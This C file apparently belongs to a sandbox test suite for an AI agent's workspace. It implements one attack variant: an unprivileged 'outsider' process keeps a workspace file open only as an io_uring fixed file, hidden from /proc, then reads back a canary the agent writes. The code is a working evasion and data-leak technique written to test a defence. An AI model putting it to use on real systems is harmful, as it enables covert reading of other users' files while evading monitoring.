// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* workspace_io_uring_file - an outsider's open file on a workspace file, kept only as an io_uring
 * fixed file. Before the launch (the workspace still readable) uid 65534 opened WS/notes.txt
 * (a 0666 file the agent is meant to edit) O_RDONLY, registered it in an io_uring instance of
 * its own (IORING_REGISTER_FILES) and closed the fd: the open file is in the ring's file table,
 * not in /proc/PID/fd (which shows only "anon_inode:[io_uring]") nor in a mapping. The agent
 * writes the canary into notes.txt after its recv; the outsider then submits IORING_OP_READ on
 * the fixed file. Same class as workspace_io_uring_file (a reference mncd's /proc walk cannot
 * name), in a place a fix that searched outsiders' socket queues would not look.
 * Verifier: the outsider, asked after the agent exited, reads through the ring and hands the
 * bytes over a pipe.
 * Would block it: a workspace (inode set) that no other uid could open before the launch. */
#include <fcntl.h>
#include <grp.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "atk_variants.h"

struct ring {
    int fd;
    unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static int ring_setup(struct ring *r)
{
    struct io_uring_params p;
    memset(&p, 0, sizeof(p));
    r->fd = (int)syscall(SYS_io_uring_setup, 4, &p);
    if (r->fd < 0)
        return -1;
    size_t ssz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t csz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    if (p.features & IORING_FEAT_SINGLE_MMAP)
        ssz = csz = ssz > csz ? ssz : csz;
    char *sq = mmap(NULL, ssz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
    if (sq == MAP_FAILED)
        return -1;
    char *cq = sq;
    if (!(p.features & IORING_FEAT_SINGLE_MMAP)) {
        cq = mmap(NULL, csz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
        if (cq == MAP_FAILED)
            return -1;
    }
    r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                   r->fd, IORING_OFF_SQES);
    if (r->sqes == MAP_FAILED)
        return -1;
    r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
    r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    r->sq_array = (unsigned *)(sq + p.sq_off.array);
    r->cq_head = (unsigned *)(cq + p.cq_off.head);
    r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
    r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    return 0;
}

/* IORING_OP_READ on fixed file 0 at offset 0: bytes read, or -1 */
static int ring_read(struct ring *r, char *buf, unsigned n)
{
    unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask;
    struct io_uring_sqe *e = &r->sqes[idx];
    memset(e, 0, sizeof(*e));
    e->opcode = IORING_OP_READ;
    e->flags = IOSQE_FIXED_FILE;
    e->fd = 0;
    e->addr = (uint64_t)(uintptr_t)buf;
    e->len = n;
    r->sq_array[idx] = idx;
    __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return -1;
    unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
    int res = r->cqes[head & *r->cq_mask].res;
    __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
    return res;
}

static void outsider(const struct atk_ctx *c, const char *file, int cmd, int ans)
{
    (void)c;
    atkv_keeper_nobody();
    struct ring r;
    if (ring_setup(&r) < 0)
        _exit(2);
    int fd = open(file, O_RDONLY | O_CLOEXEC);
    if (fd < 0 || syscall(SYS_io_uring_register, r.fd, IORING_REGISTER_FILES, &fd, 1) < 0 || close(fd) < 0)
        _exit(3);
    if (write(ans, "r", 1) != 1)
        _exit(1);
    char x;
    if (read(cmd, &x, 1) != 1)
        _exit(0);
    char buf[256];
    int got = ring_read(&r, buf, sizeof(buf));
    if (got > 0 && write(ans, buf, (size_t)got) != got)
        _exit(1);
    _exit(0);
}

static int prepare(struct atk_ctx *c)
{
    char f[700];
    return atkv_notes_file(c, f, sizeof(f)) ? -1 : atkv_keeper_start(c, f, outsider, "2 io_uring_setup, 3 register");
}

static int agent(struct atk_ctx *c) { return atkv_notes_agent(c); }

static void verify(struct atk_ctx *c)
{
    atkv_keeper_verify(c, "uid 65534 read the canary through a workspace file it kept as an io_uring fixed file");
}

static const struct atk A = {"workspace_io_uring_file",
                             "an outsider's workspace file kept only as an io_uring fixed file",
                             0,
                             prepare,
                             agent,
                             NULL,
                             verify,
                             atkv_keeper_cleanup};
ATK_MAIN(A)
